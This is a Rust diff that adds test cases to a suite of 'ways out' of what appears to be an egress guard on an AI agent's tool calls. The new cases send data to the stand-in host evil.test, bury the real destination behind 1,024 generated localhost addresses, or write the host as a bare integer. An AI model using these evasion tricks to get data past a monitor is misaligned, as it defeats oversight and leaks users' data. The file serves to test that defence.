@@ -161,6 +161,62 @@ pub(super) fn ways_out() -> Vec<Script> {
             "unclassified URL",
             call("x", &[], json!({ "target": "https://evil.test" })),
         ),
+        (
+            "a host behind a thousand listed ones",
+            call(
+                "http_post",
+                &[Class::Send],
+                json!({ "body": listed("http://", "/"), "url": "https://evil.test/in" }),
+            ),
+        ),
+        (
+            "a recipient behind a thousand listed ones",
+            call(
+                "send_email",
+                &[Class::Send],
+                json!({ "cc": listed("a@", ""), "to": "x@evil.test" }),
+            ),
+        ),
+        (
+            "a listed address in the text of what shows no destination",
+            call(
+                "post_message",
+                &[Class::Send],
+                json!({ "channel": "#random", "text": "d http://localhost/" }),
+            ),
+        ),
+        (
+            "a listed address with the data in it",
+            call(
+                "post_message",
+                &[Class::Send],
+                json!({ "channel": "#random", "text": "http://localhost/?d=1" }),
+            ),
+        ),
+        (
+            "a listed mail address in the text of what shows no destination",
+            call(
+                "send_sms",
+                &[Class::Send],
+                json!({ "number": "+1 555 0100", "body": "d a@127.0.0.1" }),
+            ),
+        ),
+        (
+            "a host that is a number, beside a listed address",
+            call(
+                "connect",
+                &[Class::Send],
+                json!({ "host": 3_405_803_777_u32, "url": "http://localhost/" }),
+            ),
+        ),
+        (
+            "a host that is a number, of a tool that need not send",
+            call(
+                "fetch",
+                &[Class::Read],
+                json!({ "targetHost": 3_405_803_777_u32 }),
+            ),
+        ),
     ];
     out.into_iter()
         .map(|(name, last)| {
@@ -170,4 +226,10 @@ pub(super) fn ways_out() -> Vec<Script> {
             )
         })
         .collect()
+}
+
+/// More addresses at home than are kept apart.
+fn listed(before: &str, after: &str) -> String {
+    let addresses = (0..1024).map(|at| format!("{before}127.0.{}.{}{after}", at / 256, at % 256));
+    addresses.collect::<Vec<_>>().join(" ")
 }
